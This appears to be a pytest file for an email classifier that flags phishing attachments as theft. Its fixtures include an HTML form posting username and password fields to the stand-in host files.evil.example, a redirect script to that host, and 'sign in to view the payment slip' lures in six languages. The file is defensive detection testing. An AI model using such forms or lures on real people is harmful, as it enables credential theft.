"""A page in the post that wants a password, a paper that opens only after signing in: both are theft, not payment."""

from __future__ import annotations

import pytest

from argosy.reading.model import Attachment
from tests.reading.letters import letter, read

pytestmark = pytest.mark.pure

PAGE = (
    b"<html><form action='https://files.evil.example/x'><input name=u><input class='f' type='password' name=w></form>"
)
HARMLESS = b"<html><body><table><tr><td>Bench</td><td>400</td></tr></table></body></html>"


def _page(content: bytes, name: str = "Slip_88213.html") -> Attachment:
    return Attachment(name=name, type="text/html", size=len(content), content=content)


def test_an_attached_page_with_a_field_for_a_password_is_theft_whatever_the_letter_says() -> None:
    found = read(letter("Payment slip", "Dear customer, the slip is attached.", attachments=(_page(PAGE),)))

    assert (found.risk, found.kind) == ("phishing", "other")


def test_an_attached_page_that_only_shows_goods_is_none() -> None:
    found = read(letter("Our order", "Please find our order attached.", attachments=(_page(HARMLESS),)))

    assert (found.risk, found.kind) == (None, "order")


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("en", "To view the transfer copy sign in with the e-mail of your company."),
        ("de", "Um den Beleg zu sehen, melden Sie sich bitte mit Ihrer Firmen-E-Mail an."),
        ("fr", "Pour voir l'avis, connectez-vous avec votre adresse e-mail professionnelle."),
        ("es", "Para ver el comprobante inicie sesión con su correo corporativo."),
        ("ru", "Чтобы открыть документ, войдите с рабочей почтой."),
        ("zh", "请使用企业邮箱登录后查看水单。"),
    ],
)
def test_a_paper_that_opens_only_after_signing_in_is_theft(language: str, text: str) -> None:
    attached = _page(b"<html><script>location='https://files.evil.example'</script></html>")

    assert read(letter("Payment advice", text, attachments=(attached,)), language).risk == "phishing"
